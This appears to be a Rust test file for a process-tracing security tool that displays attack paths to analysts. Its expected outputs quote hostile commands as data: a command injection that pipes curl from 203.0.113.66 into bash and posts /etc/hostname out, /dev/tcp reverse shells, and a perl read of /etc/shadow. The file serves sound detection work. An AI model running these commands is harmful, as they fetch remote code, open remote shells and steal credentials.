//! Attack paths on the samples: what an analyst has to see at a glance.

mod support;

use std::fmt::Write;
use std::path::Path;

use support::Fixture;
use tracehound_formats::{Input, Seq, Tid};
use tracehound_report::path::{self, Paths};

/// A sample of the repository.
fn sample(name: &str) -> Fixture {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../samples").join(name);
    let bytes = std::fs::read(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
    Fixture::read(Input::from(bytes)).unwrap_or_else(|error| panic!("{name}: {error}"))
}

/// The path to a process as of an event, as text.
fn show(fixture: &Fixture, pid: i64, seq: u64) -> String {
    fixture.with(|case| {
        let mut out = Vec::new();
        let thread = case.history.thread_by_tid(Tid(pid), Seq(seq)).expect("a thread of the trace");
        let path = Paths::new(case).to(case.history.thread(thread).process, Some(thread), Seq(seq));
        path::write(&mut out, case, &path).expect("memory takes everything");
        String::from_utf8(out).expect("UTF-8")
    })
}

fn check(fixture: &Fixture, pid: i64, seq: u64, expected: &str) {
    let actual = show(fixture, pid, seq);
    assert_eq!(actual, expected, "\n{actual}");
}

#[test]
fn the_samples() {
    let cases: &[(&str, i64, u64, &str)] = &[
        // A shell through java.
        (
            "java_spawns_bash.trace",
            2840,
            33,
            r#"service orders.service, host web-01
1 systemd  root  /sbin/init
1874 java  app  /usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xmx2g -jar /srv/orders/orders.jar  1 ↔ unix socket /run/systemd/journal/stdout  2 ↔ unix socket /run/systemd/journal/stdout  ← 198.51.100.90:40112
2840 http-nio-8080-e → jspawnhelper → sh  app  /bin/sh -c /srv/orders/bin/export.sh x;bash -c 'curl -fsS http://203.0.113.66:8000/s | bash'; curl -fsS -d @/etc/hostnam…  10:31:34.111
then 2841 bash  bash -c curl -fsS http://203.0.113.66:8000/s | bash  10:31:34.116
then 2842 curl  curl -fsS http://203.0.113.66:8000/s  10:31:34.120
then 2843 bash  10:31:34.120
then 2844 curl  curl -fsS -d @/etc/hostname http://203.0.113.66:8000/r  10:31:34.203
"#,
        ),
        (
            "java_spawns_bash.trace",
            2842,
            52,
            r#"service orders.service, host web-01
1 systemd  root  /sbin/init
1874 java  app  /usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xmx2g -jar /srv/orders/orders.jar  1 ↔ unix socket /run/systemd/journal/stdout  2 ↔ unix socket /run/systemd/journal/stdout  ← 198.51.100.90:40112
2840 http-nio-8080-e → jspawnhelper → sh  app  /bin/sh -c /srv/orders/bin/export.sh x;bash -c 'curl -fsS http://203.0.113.66:8000/s | bash'; curl -fsS -d @/etc/hostnam…  10:31:34.111
2841 sh → bash  app  bash -c curl -fsS http://203.0.113.66:8000/s | bash  10:31:34.116
2842 bash → curl  app  curl -fsS http://203.0.113.66:8000/s  10:31:34.120  1 ↔ pipe of 2841 bash  → 203.0.113.66:8000 later
"#,
        ),
        // A reverse shell: as of the first redirection, and of the shell's exec.
        (
            "reverse_shell_redirect.trace",
            5127,
            47,
            r#"service cron.service, login of app, host web-01
1 systemd  root  /sbin/init  ← 192.0.2.7:50122
611 cron  root  /usr/sbin/cron -f
5126 cron → sh  root → app  /bin/sh -c bash -c 'exec sh -i >& /dev/tcp/203.0.113.66/4444 0>&1'  11:01:00.017
5127 sh → bash  app  bash -c exec sh -i >& /dev/tcp/203.0.113.66/4444 0>&1  11:01:00.022  1 ↔ 203.0.113.66:4444
then 5127 sh  sh -i  11:01:00.047
then 5131 id  11:01:05.048
"#,
        ),
        (
            "reverse_shell_redirect.trace",
            5127,
            51,
            r#"service cron.service, login of app, host web-01
1 systemd  root  /sbin/init  ← 192.0.2.7:50122
611 cron  root  /usr/sbin/cron -f
5126 cron → sh  root → app  /bin/sh -c bash -c 'exec sh -i >& /dev/tcp/203.0.113.66/4444 0>&1'  11:01:00.017
5127 sh → bash → sh  app  sh -i  11:01:00.022  0,1,2 ↔ 203.0.113.66:4444
then 5131 id  11:01:05.048
"#,
        ),
        (
            "shell_in_container.trace",
            3466,
            71,
            r#"container docker 7c1f0a96de3b web, host web-01
1 systemd  root  /sbin/init
1057 containerd-shim  root  /usr/bin/containerd-shim-runc-v2 -namespace moby -id 7c1f0a96de3b5842c9f1d07be46a35928f4ec0d17b6a2938e5d4c3b2a1908f7e -a…
3462 containerd-shim → runc  root  runc --root /var/run/docker/runtime-runc/moby --log-format json --systemd-cgroup exec --process /tmp/runc-process2610626…  09:14:13.236
3466 runc:[1:CHILD] → bash  root  enters [docker 7c1f0a96de3b]  09:14:13.266
then 3471 cat  cat /proc/1/environ  09:14:17.298
"#,
        ),
        (
            "write_below_dev.trace",
            2425,
            42,
            r#"login session session-9.scope, login of deploy, host web-01
1 systemd  root  /sbin/init
2390 sshd  deploy  sshd: deploy@pts/0
2391 bash  deploy  -bash
2416 sudo  root  sudo -s
2417 bash  root  /bin/bash  wrote /dev/.udev-cache
2425 bash → .lock  root  ./.lock  14:03:14.586
"#,
        ),
        (
            "recorded_reverse_shell.trh",
            25797,
            154,
            r#"login session session-1.scope, host web-01
1 systemd  root  /sbin/init
25774 tracehound  root  /tmp/th-lab/tracehound record -q -o /tmp/th-lab/reverse_shell.trh -- /tmp/th-lab/reverse_shell.sh /tmp/th-lab/reverse_sh…  15:20:56.015
25792 tracehound → reverse_shell.s  root  /bin/bash /tmp/th-lab/reverse_shell.sh /tmp/th-lab/reverse_shell  15:20:57.167
25797 reverse_shell.s → bash → sh  root  /bin/sh -i  15:20:57.261  0,1,2 ↔ 127.0.0.1:54121 of 25793 perl
then 25798 id  id -u  15:20:57.263
"#,
        ),
        (
            "recorded_java_shell.trh",
            25512,
            92,
            r#"login session session-1.scope, host web-01
1 systemd  root  /sbin/init
25429 tracehound  root  /tmp/th-lab/tracehound record -q -o /tmp/th-lab/java_shell.trh -- /tmp/th-lab/java_shell.sh /tmp/th-lab/java_shell  15:20:50.875
25509 tracehound → java_shell.sh  root  /bin/bash /tmp/th-lab/java_shell.sh /tmp/th-lab/java_shell  15:20:52.358
25511 java_shell.sh → java  root  /tmp/th-lab/java_shell/java -e system("/bin/sh", "-c", "id -u; uname -s >/dev/null") org.apache.zookeeper.server.quorum.…  15:20:52.363
25512 java → sh  root  /bin/sh -c id -u; uname -s >/dev/null  15:20:52.364
then 25513 id  id -u  15:20:52.373
then 25516 uname  uname -s  15:20:52.373
"#,
        ),
        (
            "recorded_exec_from_memory.trh",
            25354,
            114,
            r#"login session session-1.scope, host web-01
1 systemd  root  /sbin/init
25286 tracehound  root  /tmp/th-lab/tracehound record -q -o /tmp/th-lab/exec_from_memory.trh -- /tmp/th-lab/exec_from_memory.sh /tmp/th-lab/exec…  15:20:48.085
25351 tracehound → exec_from_memor  root  /bin/sh /tmp/th-lab/exec_from_memory.sh /tmp/th-lab/exec_from_memory  15:20:49.803
25354 exec_from_memor → .tracehound-sam  root  /dev/shm/.tracehound-sample  15:20:49.852
"#,
        ),
        (
            "recorded_write_below_dev.trh",
            25884,
            15,
            r#"login session session-1.scope, host web-01
1 systemd  root  /sbin/init
25868 tracehound  root  /tmp/th-lab/tracehound record -q -o /tmp/th-lab/write_below_dev.trh -- /tmp/th-lab/write_below_dev.sh /tmp/th-lab/write_…  15:20:58.425
25884 tracehound → write_below_dev  root  /bin/sh /tmp/th-lab/write_below_dev.sh /tmp/th-lab/write_below_dev  15:20:59.554  wrote /dev/.tracehound-sample
then 25885 rm  rm /dev/.tracehound-sample  15:20:59.556
"#,
        ),
        (
            "recorded_read_credentials.trh",
            25672,
            89,
            r#"login session session-1.scope, host web-01
1 systemd  root  /sbin/init
25616 tracehound  root  /tmp/th-lab/tracehound record -q -o /tmp/th-lab/read_credentials.trh -- /tmp/th-lab/read_credentials.sh /tmp/th-lab/read…  15:20:53.605
25668 tracehound → read_credential  root  /bin/sh /tmp/th-lab/read_credentials.sh /tmp/th-lab/read_credentials  15:20:54.803
25671 read_credential → perl  root  /usr/bin/perl -e system("/bin/cat", "/etc/ssl/../../etc/shadow")  15:20:54.824
25672 perl → cat  root  /bin/cat /etc/ssl/../../etc/shadow  15:20:54.829
"#,
        ),
    ];
    for &(name, pid, seq, expected) in cases {
        let actual = show(&sample(name), pid, seq);
        assert_eq!(actual, expected, "{name}\n{actual}");
    }
}

#[test]
fn ten_thousand_deep() {
    let mut trace = String::from("thread 1 comm=init exe=init\n");
    for pid in 2..10_002 {
        let _ = writeln!(trace, "thread {} ptid={} comm=c exe=c", pid + 10, if pid == 2 { 1 } else { pid + 9 });
    }
    let text = show(&Fixture::new(&trace), 10_011, 0);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 1 + 16 + 1 + 48);
    assert_eq!((lines[17], lines[65]), ("… 9937 processes between", "10011 c"));
}

#[test]
fn a_cycle_of_parents() {
    let trace = "thread 10 ptid=11 comm=a exe=a\nthread 11 ptid=10 comm=\"\\x1b[1m\u{202e}\" exe=b\n";
    check(&Fixture::new(trace), 10, 0, "entry unknown, host web-01\n11 \\x1b[1m\\u{202e}  b\n10 a\n");
}
